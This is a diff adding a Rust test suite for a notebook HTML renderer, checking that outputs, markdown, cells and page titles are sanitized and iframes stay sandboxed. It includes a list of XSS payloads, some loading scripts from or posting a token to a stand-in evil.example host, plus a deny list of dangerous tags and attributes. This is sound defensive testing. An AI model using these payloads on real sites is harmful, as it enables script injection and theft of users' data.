@@ -1,0 +1,279 @@
+use notebook::message::StreamName;
+use serde_json::{Map, json};
+
+use super::*;
+
+fn display(data: Value) -> OutputMessage {
+    OutputMessage::DisplayData {
+        data: data.as_object().unwrap().clone(),
+        metadata: Map::new(),
+        display_id: None,
+    }
+}
+
+fn stream(text: &str) -> OutputMessage {
+    OutputMessage::Stream {
+        name: StreamName::Stdout,
+        text: text.to_owned(),
+    }
+}
+
+/// Tags with their attributes, as a browser would find them outside of frames.
+fn tags(html: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut rest = html;
+    while let Some(at) = rest.find('<') {
+        rest = &rest[at + 1..];
+        let mut quote = None;
+        let end = rest.find(|c: char| {
+            match (quote, c) {
+                (None, '"' | '\'') => quote = Some(c),
+                (Some(open), c) if open == c => quote = None,
+                (None, '>') => return true,
+                _ => {}
+            }
+            false
+        });
+        let end = end.unwrap_or(rest.len());
+        found.push(rest[..end].to_owned());
+        rest = &rest[end..];
+    }
+    found
+}
+
+/// Nothing outside of a sandboxed frame may run, load or style.
+fn assert_harmless(html: &str) {
+    for tag in tags(html) {
+        let name: String = tag
+            .trim_start_matches('/')
+            .chars()
+            .take_while(char::is_ascii_alphanumeric)
+            .collect();
+        let forbidden = [
+            "script", "style", "object", "embed", "link", "meta", "base", "form", "input", "svg",
+            "math", "template", "textarea", "button", "video", "audio",
+        ];
+        assert!(!forbidden.contains(&name.as_str()), "<{tag}> in {html}");
+        if name == "iframe" && !tag.starts_with('/') {
+            assert!(tag.contains(" sandbox=\"allow-scripts\""), "{tag}");
+            continue;
+        }
+        let lower = tag.to_ascii_lowercase();
+        // Attribute values are quoted; what is inside the quotes is no attribute.
+        let outside: String = lower.split('"').step_by(2).collect::<Vec<_>>().join("\"");
+        for attribute in [" on", " style=", " id=\"x", " srcdoc=", " formaction="] {
+            assert!(!outside.contains(attribute), "<{tag}> in {html}");
+        }
+        for url in [
+            "javascript:",
+            "vbscript:",
+            "data:text",
+            "=\"//",
+            "src=\"http",
+        ] {
+            assert!(!lower.contains(url), "<{tag}> in {html}");
+        }
+    }
+}
+
+const NASTY: [&str; 24] = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"javascript:alert(1)\">",
+    "<img src=https://evil.example/pixel.gif>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\" java\nscript:alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"//evil.example\">x</a>",
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
+    "<style>body { background: url(https://evil.example) }</style>",
+    "<div style=\"position:fixed;inset:0\">x</div>",
+    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+    "<object data=javascript:alert(1)></object><embed src=x>",
+    "<form action=https://evil.example><input name=token><button formaction=x>go</button></form>",
+    "<base href=https://evil.example><meta http-equiv=refresh content=0>",
+    "<link rel=stylesheet href=https://evil.example>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<textarea></textarea><img src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<!--><img src=x onerror=alert(1)>-->\"><img src=x onerror=alert(1)>",
+];
+
+#[test]
+fn nothing_that_a_notebook_says_runs_in_the_page() {
+    for nasty in NASTY {
+        for message in [
+            stream(nasty),
+            stream(&format!("\u{1b}[31{nasty}\u{1b}[31m{nasty}\u{1b}[0m")),
+            display(json!({"text/html": nasty})),
+            display(json!({"text/markdown": nasty})),
+            display(json!({"text/plain": nasty})),
+            display(json!({"text/latex": nasty})),
+            display(json!({"image/png": nasty})),
+            display(json!({"image/svg+xml": nasty})),
+            display(json!({"application/javascript": nasty})),
+            display(json!({"application/vnd.x+json": {"x": nasty}})),
+            display(json!({nasty: nasty})),
+            OutputMessage::Error {
+                ename: nasty.into(),
+                evalue: nasty.into(),
+                traceback: vec![],
+            },
+            OutputMessage::Error {
+                ename: "E".into(),
+                evalue: "x".into(),
+                traceback: vec![nasty.into()],
+            },
+        ] {
+            assert_harmless(&output(&message));
+            let no_frames = Options {
+                frames: false,
+                ..Options::default()
+            };
+            let html = output_with(&message, &no_frames);
+            assert_harmless(&html);
+            assert!(!html.contains("<iframe"), "{html}");
+        }
+        assert_harmless(&markdown(nasty));
+        assert_harmless(&markdown(&format!(
+            "[x]: {nasty}\n![a]({nasty}) [b]({nasty}) `{nasty}`"
+        )));
+        let mut one = Cell::code("x", nasty);
+        one.metadata.insert("tags".into(), json!([nasty]));
+        for kind in [
+            CellKind::Code,
+            CellKind::Markdown,
+            CellKind::Raw,
+            CellKind::Other(nasty.into()),
+        ] {
+            one.kind = kind;
+            let language = nasty.to_owned();
+            assert_harmless(&cell_with(
+                &one,
+                0,
+                &Options {
+                    language,
+                    ..Options::default()
+                },
+            ));
+        }
+    }
+}
+
+#[test]
+fn a_frame_cannot_be_left() {
+    let nasty = "\"><script>alert(1)</script><iframe></iframe>&quot;'";
+    let html = output(&display(json!({"text/html": nasty})));
+    assert_eq!(html.matches('<').count(), 4, "{html}");
+    assert!(
+        html.contains("srcdoc=\"<!doctype html>") || html.contains("srcdoc=\"&lt;"),
+        "{html}"
+    );
+    let script = "document.write('</script><b>');";
+    let document = frame_document(&display(json!({"application/javascript": script}))).unwrap();
+    assert_eq!(document.matches("</script>").count(), 1, "{document}");
+    assert_eq!(frame_document(&stream("<script>")), None);
+}
+
+#[test]
+fn a_table_of_pandas_stays_in_the_page() {
+    let table = "<div>\n<style scoped>.dataframe th { text-align: right }</style>\n\
+                 <table border=\"1\" class=\"dataframe evil\"><tr><th>a</th></tr><tr><td>1</td></tr></table></div>";
+    assert_eq!(
+        output(&display(json!({"text/html": table, "text/plain": "a 1"}))),
+        "<div class=\"nb-output nb-display\">\n<div class=\"nb-html\"><div>\n\n\
+         <table class=\"dataframe\"><tbody><tr><th>a</th></tr><tr><td>1</td></tr></tbody></table></div>\n</div>\n</div>\n"
+    );
+}
+
+#[test]
+fn a_cell_with_its_outputs() {
+    let mut one = Cell::code("x", "print(1)");
+    one.execution_count = Some(3);
+    one.metadata
+        .insert("trainyard".into(), json!({"duration_ms": 1_234}));
+    one.outputs = vec![
+        stream("\u{1b}[32mok\u{1b}[0m <1>\n").into(),
+        display(json!({"image/png": "iVBO\nRw0K", "text/plain": "<Figure>"})).into(),
+    ];
+    assert_eq!(
+        cell(&one, 4),
+        "<section class=\"nb-cell nb-code\" id=\"cell-5\">\n\
+         <header class=\"nb-head\"><a href=\"#cell-5\">Cell 5</a> <span class=\"nb-count\">[3]</span> <span class=\"nb-time\">1.2 s</span></header>\n\
+         <pre class=\"nb-source\"><code class=\"language-python\"><span class=\"h-f\">print</span>(<span class=\"h-n\">1</span>)</code></pre>\n\
+         <div class=\"nb-outputs\">\n\
+         <pre class=\"nb-output nb-stdout\"><span class=\"a-f2\">ok</span> &lt;1&gt;\n</pre>\n\
+         <div class=\"nb-output nb-display\">\n<img class=\"nb-image\" alt=\"output\" loading=\"lazy\" src=\"data:image/png;base64,iVBORw0K\">\n</div>\n\
+         </div>\n</section>\n"
+    );
+}
+
+#[test]
+fn markdown_has_tables_math_and_attachments() {
+    let mut one = Cell::code(
+        "x",
+        "# T\n\n| a |\n|---|\n| $x_1$ |\n\n![p](attachment:p.png) ![q](attachment:q.png)",
+    );
+    one.kind = CellKind::Markdown;
+    one.extra.insert(
+        "attachments".into(),
+        json!({"p.png": {"image/png": "QUJD"}, "q.png": {"text/html": "<b>"}}),
+    );
+    let html = cell(&one, 0);
+    for part in [
+        "<h1>T</h1>",
+        "<td><span data-math-style=\"inline\">x_1</span></td>",
+        "<img src=\"data:image/png;base64,QUJD\" alt=\"p\">",
+        "<img alt=\"q\">",
+    ] {
+        assert!(html.contains(part), "{part} in {html}");
+    }
+}
+
+#[test]
+fn everything_has_a_bound_and_says_so() {
+    let small = Options {
+        max_text: 100,
+        max_html: 100,
+        max_media: 100,
+        max_total: 250,
+        ..Options::default()
+    };
+    let long = "x".repeat(10_000);
+    for message in [
+        stream(&long),
+        display(json!({"text/html": format!("<b>{long}</b>")})),
+        display(json!({"text/html": format!("<script>{long}</script>")})),
+        display(json!({"image/png": long})),
+        display(json!({"text/markdown": long})),
+        display(json!({"application/vnd.x+json": {"x": long}})),
+    ] {
+        let html = output_with(&message, &small);
+        assert!(html.len() < 600, "{html}");
+        assert!(
+            html.contains("left out") || html.contains("not shown"),
+            "{html}"
+        );
+    }
+    let mut one = Cell::code("x", "");
+    one.outputs = (0..9).map(|_| stream(&"y".repeat(90)).into()).collect();
+    let html = cell_with(&one, 0, &small);
+    assert_eq!(html.matches("yyy").count() / 30, 2, "{html}");
+    assert_eq!(html.matches("not shown").count(), 7, "{html}");
+}
+
+#[test]
+fn a_page_stands_alone() {
+    let shown = Notebook {
+        cells: vec![Cell::code("a", "1")],
+        ..Notebook::default()
+    };
+    let html = page("</title><script>", &shown, &Options::default());
+    assert!(html.starts_with("<!doctype html>"), "{html}");
+    assert!(html.contains("<title>&lt;/title&gt;&lt;script&gt;</title>"));
+    assert!(html.contains("prefers-color-scheme: dark") && html.contains("name=\"viewport\""));
+}
